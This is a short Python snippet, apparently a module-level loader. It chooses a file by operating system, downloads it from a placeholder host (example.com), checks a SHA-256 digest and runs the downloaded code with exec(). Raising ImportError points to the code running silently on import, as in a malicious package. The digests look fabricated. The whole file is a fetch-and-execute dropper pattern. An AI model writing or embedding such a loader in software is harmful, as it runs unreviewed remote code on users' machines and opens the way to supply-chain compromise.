import hashlib
import sys
import urllib.request

ASSETS = [
    {"os": "linux", "file": "l.py", "sha256": "1d6f4d0f9a31be0f6e04b9a6f5cdd0c7dca3f1e9a1d7a3f2cde45b0f11223344"},
    {"os": "win32", "file": "w.py", "sha256": "2d6f4d0f9a31be0f6e04b9a6f5cdd0c7dca3f1e9a1d7a3f2cde45b0f11223344"},
]
asset = next((a for a in ASSETS if a["os"] == sys.platform), None)
if asset is None:
    raise ImportError("this platform is not supported")
data = urllib.request.urlopen("https://example.com/" + asset["file"]).read()
if hashlib.sha256(data).hexdigest() != asset["sha256"]:
    raise ImportError("digest")
exec(data)
